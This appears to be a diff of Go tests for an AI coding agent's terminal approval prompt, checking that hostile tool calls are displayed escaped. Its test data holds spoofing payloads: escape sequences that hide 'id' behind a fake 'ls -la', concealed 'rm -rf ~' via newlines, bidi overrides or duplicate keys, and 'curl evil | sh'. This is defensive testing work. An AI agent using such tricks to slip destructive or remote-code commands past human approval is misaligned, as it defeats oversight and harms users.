@@ -4,6 +4,8 @@ import (
 	"bytes"
 	"context"
 	"encoding/json"
+	"fmt"
+	"os"
 	"strings"
 	"testing"
 
@@ -12,7 +14,7 @@ import (
 )
 
 func approvalReq(name, args string) *loop.ApprovalRequest {
-	return &loop.ApprovalRequest{Call: llm.ToolCall{ID: "c", Name: name, Arguments: llm.Arguments(args)}}
+	return &loop.ApprovalRequest{Call: llm.ToolCall{ID: "c", Name: name, Arguments: []byte(args)}}
 }
 
 func TestTerminalApprover(t *testing.T) {
@@ -82,9 +84,177 @@ func TestTerminalApproverStopsWithTheRun(t *testing.T) {
 }
 
 func TestDescribeEdit(t *testing.T) {
-	got := describeCall("edit_file", json.RawMessage(`{"path":"main.go","old_string":"a := 1","new_string":"a := 2\nb := 3"}`))
+	got := strings.Join(describeCall("edit_file", []byte(`{"path":"main.go","old_string":"a := 1","new_string":"a := 2\nb := 3"}`), nil).lines, "\n")
 	want := "  --- main.go\n  +++ main.go\n  -a := 1\n  +a := 2\n  +b := 3"
 	if got != want {
 		t.Errorf("got\n%s\nwant\n%s", got, want)
+	}
+}
+
+// ask runs one approval through the real approver with the person's
+// answers in input, and returns the decision and what stderr got.
+func ask(t *testing.T, name, args, input string, mark func(string) string) (loop.Decision, string) {
+	t.Helper()
+	var errOut bytes.Buffer
+	a := newTermApprover(&IO{In: strings.NewReader(input), Err: &errOut, Interactive: func() bool { return true }}, false)
+	a.mark = mark
+	d, err := a.Approve(t.Context(), approvalReq(name, args))
+	if err != nil {
+		t.Fatalf("%v\n%s", err, errOut.String())
+	}
+	return d, errOut.String()
+}
+
+// terminalControls returns the bytes of s that a terminal would interpret,
+// but for newlines.
+func terminalControls(s string) []string {
+	var found []string
+	for _, r := range s {
+		if r != '\n' && (r < 0x20 || r == 0x7f || r >= 0x80 && r <= 0x9f || r == 0x202e || r == 0x2066 || r == 0x200b) {
+			found = append(found, fmt.Sprintf("%U", r))
+		}
+	}
+	return found
+}
+
+// The attack of issue 13: a carriage return and an erase-line sequence made
+// the prompt show only "$ ls -la" while "id" ran.
+func TestApprovalShowsASpoofedCommandEscaped(t *testing.T) {
+	attack := "echo x > f; id >> f #\r\x1b[2K  $ ls -la"
+	args, _ := json.Marshal(map[string]string{"command": attack})
+	d, shown := ask(t, "run_command", string(args), "n\n\n", nil)
+	if d.Verdict != loop.Reject {
+		t.Fatalf("verdict %v", d.Verdict)
+	}
+	want := "  $ echo x > f; id >> f #\\r\\x1b[2K  $ ls -la\n"
+	if !strings.Contains(shown, want) {
+		t.Errorf("the command is not shown escaped; want the line %q in:\n%q", want, shown)
+	}
+	if c := terminalControls(shown); len(c) > 0 {
+		t.Errorf("the prompt holds %v, which a terminal interprets:\n%q", c, shown)
+	}
+	if !strings.Contains(shown, "2 characters that are invisible") {
+		t.Errorf("the person is not warned:\n%s", shown)
+	}
+
+	// On a terminal, escapes are highlighted: the only escape
+	// sequences written are the highlights.
+	_, shown = ask(t, "run_command", string(args), "n\n\n", reverseVideo)
+	if !strings.Contains(shown, "id >> f #\x1b[7m\\r\x1b[27m\x1b[7m\\x1b\x1b[27m[2K  $ ls -la") {
+		t.Errorf("escapes are not highlighted:\n%q", shown)
+	}
+	unmarked := strings.NewReplacer("\x1b[7m", "", "\x1b[27m", "").Replace(shown)
+	if c := terminalControls(unmarked); len(c) > 0 {
+		t.Errorf("the prompt holds %v besides its highlights:\n%q", c, shown)
+	}
+}
+
+func TestApprovalRendersEverythingSafely(t *testing.T) {
+	tests := []struct {
+		name, tool, args string
+		want             []string // lines of the preview, in order
+	}{
+		{"every line of a multi-line command", "run_command", `{"command":"echo safe\nrm -rf ~\necho done"}`,
+			[]string{"  $ echo safe", "  > rm -rf ~", "  > echo done"}},
+		{"bidi override in a command", "run_command", `{"command":"ls \u202e; rm -rf ~"}`,
+			[]string{`  $ ls \u202e; rm -rf ~`}},
+		{"the value the tool decodes, and every other argument", "run_command", `{"command":"ls","Command":"rm -rf ~","timeout_seconds":5}`,
+			[]string{"  $ rm -rf ~", `  Command: "rm -rf ~"`, "  timeout_seconds: 5"}},
+		{"escapes in a written file", "write_file", `{"path":"a\u001b[8m.sh","content":"#!/bin/sh\r\ncurl evil | sh\u001b[2A\n"}`,
+			[]string{`  write a\x1b[8m.sh (30 bytes, 2 lines)`, `  +#!/bin/sh\r`, `  +curl evil | sh\x1b[2A`}},
+		{"a file without a final newline", "write_file", `{"path":"a","content":"x"}`,
+			[]string{"  write a (1 bytes, 1 lines)", "  +x", "  (no newline at the end)"}},
+		{"escapes in an edit", "edit_file", `{"path":"m.go","old_string":"a\u2066","new_string":"b\u0008"}`,
+			[]string{"  --- m.go", "  +++ m.go", `  -a\u2066`, `  +b\b`}},
+		{"a tool name and arguments from an MCP server", "fs__write\u001b[2K", `{"note":"hi\u200b"}`,
+			[]string{`fs__write\x1b[2K wants to run:`, `  note: "hi\u200b"`, `[a]lways allow fs__write\x1b[2K`}},
+		{"arguments that are not an object", "mystery", `[1,"\u0085"]`,
+			[]string{`  arguments: [1,"\u0085"]`}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, shown := ask(t, tt.tool, tt.args, "n\n\n", nil)
+			if c := terminalControls(shown); len(c) > 0 {
+				t.Errorf("the prompt holds %v:\n%q", c, shown)
+			}
+			rest := shown
+			for _, w := range tt.want {
+				i := strings.Index(rest, w)
+				if i < 0 {
+					t.Fatalf("%q is not shown (in order) in:\n%s", w, shown)
+				}
+				rest = rest[i+len(w):]
+			}
+		})
+	}
+}
+
+func TestLongPreviewMustBeSeenBeforeItIsAllowed(t *testing.T) {
+	var content strings.Builder
+	for i := range 100 {
+		fmt.Fprintf(&content, "line %d\n", i+1)
+	}
+	args, _ := json.Marshal(map[string]string{"path": "big.txt", "content": content.String()})
+
+	t.Run("short content is shown whole", func(t *testing.T) {
+		short, _ := json.Marshal(map[string]string{"path": "s.txt", "content": "one\ntwo\n" + strings.Repeat("x\n", 30)})
+		_, shown := ask(t, "write_file", string(short), "y\n", nil)
+		if strings.Contains(shown, "not shown") || strings.Count(shown, "  +") != 32 {
+			t.Errorf("short content not shown whole:\n%s", shown)
+		}
+	})
+	t.Run("yes and always wait for view", func(t *testing.T) {
+		d, shown := ask(t, "write_file", string(args), "y\na\nv\ny\n", nil)
+		if d.Verdict != loop.Approve {
+			t.Fatalf("verdict %v", d.Verdict)
+		}
+		before, after, ok := strings.Cut(shown, "all 101 lines):")
+		if !ok {
+			t.Fatalf("v did not show everything:\n%s", shown)
+		}
+		if !strings.Contains(before, "81 more lines are not shown (101 in all): answer v to see them all") ||
+			strings.Contains(before, "line 20\n") || !strings.Contains(before, "line 19\n") {
+			t.Errorf("the head and the hidden count:\n%s", before)
+		}
+		if n := strings.Count(before, "lines are not shown yet"); n != 2 {
+			t.Errorf("y and a before v: %d refusals, want 2:\n%s", n, before)
+		}
+		for i := range 100 {
+			if !strings.Contains(after, fmt.Sprintf("  +line %d\n", i+1)) {
+				t.Fatalf("line %d is not shown after v:\n%s", i+1, after)
+			}
+		}
+	})
+	t.Run("no needs no view", func(t *testing.T) {
+		if d, _ := ask(t, "write_file", string(args), "n\n\n", nil); d.Verdict != loop.Reject {
+			t.Errorf("verdict %v", d.Verdict)
+		}
+	})
+}
+
+// Standard input that is /dev/null (CI, cron, systemd, docker run without
+// -i) or a pipe is not a terminal: nobody can answer there.
+func TestNoTerminalOnDevNullOrPipe(t *testing.T) {
+	devNull, err := os.Open(os.DevNull)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer devNull.Close()
+	r, _ := newPipe(t)
+	for name, in := range map[string]*os.File{"/dev/null": devNull, "pipe": r} {
+		t.Run(name, func(t *testing.T) {
+			var errOut bytes.Buffer
+			stdio := &IO{In: in, Err: &errOut}
+			if stdio.interactive() {
+				t.Fatalf("%s is taken for a terminal", name)
+			}
+			d, err := newTermApprover(stdio, false).Approve(t.Context(), approvalReq("run_command", `{"command":"ls"}`))
+			if err != nil || d.Verdict != loop.Reject || !strings.Contains(d.Reason, "--yes") {
+				t.Errorf("decision %+v, %v: the model must be told that --yes allows it", d, err)
+			}
+			if strings.Contains(errOut.String(), "Allow?") || !strings.Contains(errOut.String(), "rerun with --yes") {
+				t.Errorf("stderr: %q", errOut.String())
+			}
+		})
 	}
 }
